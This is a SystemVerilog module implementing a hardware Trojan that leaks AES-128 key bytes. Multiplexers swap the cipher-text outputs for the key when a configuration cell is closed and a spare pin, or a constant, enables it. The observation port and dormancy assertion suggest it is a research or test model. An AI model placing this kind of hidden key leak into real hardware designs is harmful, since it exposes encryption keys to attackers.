// Key-leaking Trojan around an AES-128 core with an 8-bit data interface.
//
// The core itself is not part of this RTL: its cipher-text register output
// arrives on ct_i and the key byte it is given arrives on key_i. The Trojan
// is a bank of barrier gates (2:1 multiplexers) on the cipher-text path.
// Their enable S is routed from an enable source through the Trojan PIP:
//   * ENABLE_SRC = EN_IO_PIN (default): an otherwise unused input pin,
//     trig_pin_i. With the TPIP closed, driving the pin high replaces the
//     cipher text at the outputs by the key byte; low gives the cipher text.
//   * ENABLE_SRC = EN_CONST_ONE: a constant 1. The key leaks as soon as the
//     TPIP is closed, and trig_pin_i is ignored.
// While the TPIP configuration cell holds 0 (the state written into the
// bitstream) the block is functionally identical to the bare core: out_o
// equals ct_i whatever the pin does. An assertion checks that rule.
//
// There is no trigger logic. The output path is combinational; only the
// TPIP cell is clocked (see tpip). trojan_active_o shows the select line and
// is an observation port added by this design.
module aes_key_leak
  import trojan_pkg::*;
#(
  parameter int unsigned           WIDTH      = 8,
  parameter enable_src_e           ENABLE_SRC = EN_IO_PIN,
  parameter int unsigned           CFG_ADDR_W = trojan_pkg::CFG_ADDR_BITS,
  parameter logic [CFG_ADDR_W-1:0] TPIP_ADDR  = trojan_pkg::TPIP_BIT_ADDR
) (
  input  logic                  clk,
  input  logic                  rst_n,
  input  logic                  cfg_we_i,
  input  logic [CFG_ADDR_W-1:0] cfg_addr_i,
  input  logic                  cfg_data_i,
  input  logic [WIDTH-1:0]      ct_i,           // cipher text register
  input  logic [WIDTH-1:0]      key_i,          // key byte into the core
  input  logic                  trig_pin_i,     // unused I/O pin
  output logic [WIDTH-1:0]      out_o,          // primary outputs
  output logic                  trojan_active_o
);

  logic en_src;
  logic sel;
  logic tpip_closed;

  assign en_src = (ENABLE_SRC == EN_CONST_ONE) ? 1'b1 : trig_pin_i;

  tpip #(
    .CFG_ADDR_W (CFG_ADDR_W),
    .BIT_ADDR   (TPIP_ADDR)
  ) u_tpip (
    .clk         (clk),
    .rst_n       (rst_n),
    .cfg_we_i    (cfg_we_i),
    .cfg_addr_i  (cfg_addr_i),
    .cfg_data_i  (cfg_data_i),
    .src_i       (en_src),
    .sink_o      (sel),
    .connected_o (tpip_closed)
  );

  barrier_gates #(
    .WIDTH (WIDTH)
  ) u_barrier (
    .orig_i (ct_i),
    .leak_i (key_i),
    .sel_i  (sel),
    .out_o  (out_o)
  );

  assign trojan_active_o = sel;

  // Dormant rule: with the TPIP open the design is the original one.
  always_comb begin
    if (!tpip_closed) begin
      assert (out_o == ct_i)
        else $error("aes_key_leak: output differs from cipher text while TPIP is open");
    end
  end

endmodule
